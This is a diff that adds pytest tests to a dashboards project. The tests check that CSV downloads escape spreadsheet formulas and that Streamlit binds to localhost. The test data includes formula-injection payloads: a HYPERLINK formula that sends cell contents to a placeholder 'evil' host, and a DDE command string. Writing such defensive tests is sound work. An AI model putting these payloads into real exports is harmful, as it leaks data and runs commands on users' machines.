@@ -528,3 +528,34 @@ def test_division_that_cannot_be_a_partition_key_stops_the_import(box):
     with pytest.raises(SourceError) as err:
         _import(box["src"])
     assert err.value.path.name == "sku_map.csv" and err.value.line == 3 and "Hard|ware" in str(err.value)
+
+
+# -- safe outputs ----------------------------------------------------------------------------------
+
+def test_csv_downloads_neutralise_formulas():
+    import polars as pl
+
+    from dashboards import safe
+
+    df = pl.DataFrame({"account": ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
+                                   "-2+3", "\tx", "Acme - West", "O'Neil"],
+                       "amount": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0]})
+    out = pl.read_csv(safe.csv_bytes(df))
+    assert out["account"].to_list() == ["'=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "'+cmd|' /C calc'!A0",
+                                        "'@SUM(A1:A9)", "'-2+3", "'\tx", "Acme - West", "O'Neil"]
+    assert out["amount"].to_list() == df["amount"].to_list()  # numbers are not text
+
+
+def test_every_dashboard_download_goes_through_the_neutraliser():
+    views = REPO / "dashboards"
+    offenders = [str(p.relative_to(REPO)) for p in views.rglob("*.py")
+                 if "download_button" in p.read_text() and "write_csv()" in p.read_text()]
+    assert offenders == []
+
+
+def test_streamlit_binds_localhost_and_hides_tracebacks():
+    import tomllib
+
+    config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text())
+    assert config["server"]["address"] == "127.0.0.1"
+    assert config["client"]["showErrorDetails"] == "none"
